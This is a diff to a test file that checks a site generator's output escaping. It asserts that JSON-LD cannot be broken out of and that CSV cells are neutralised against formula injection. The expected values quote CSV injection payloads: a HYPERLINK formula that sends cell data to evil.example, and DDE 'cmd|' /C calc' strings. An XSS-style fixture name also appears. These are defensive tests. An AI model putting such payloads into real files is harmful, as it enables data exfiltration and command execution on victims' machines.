@@ -43,7 +43,7 @@ describe("sources whose text is markup, whose addresses are scripts, whose cells
   });
 
   it("writes JSON-LD that no text can end, and that gives the text back", () => {
-    const page = walkFiles(join(output, "articles")).find((f) => f.includes("img-src-x-onerror")) as string;
+    const page = join(output, "articles/every-field/index.html");
     const script = /<script type="application\/ld\+json">(.*?)<\/script>/s.exec(readFileSync(page, "utf8"))?.[1] ?? "";
     assert.doesNotMatch(script, /</);
     const data = JSON.parse(script);
@@ -63,7 +63,7 @@ describe("sources whose text is markup, whose addresses are scripts, whose cells
     const table = parseCsv(readFileSync(join(output, "donnees/articles.csv"), "utf8")) as string[][];
     for (const cells of table) for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
     const header = table[0] as string[];
-    const formulas = table.find((cells) => cells[0] === "hyperlink-https-evil-example-d-a1-cliquez-ici") as string[];
+    const formulas = table.find((cells) => cells[0] === "csv-formulas") as string[];
     assert.equal(formulas[header.indexOf("title")], `'=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")`);
     assert.equal(formulas[header.indexOf("outlet")], `'+cmd|' /C calc'!A0`);
     assert.equal(formulas[header.indexOf("people")], `'@SUM(1+1)*cmd|' /C calc'!A0`);
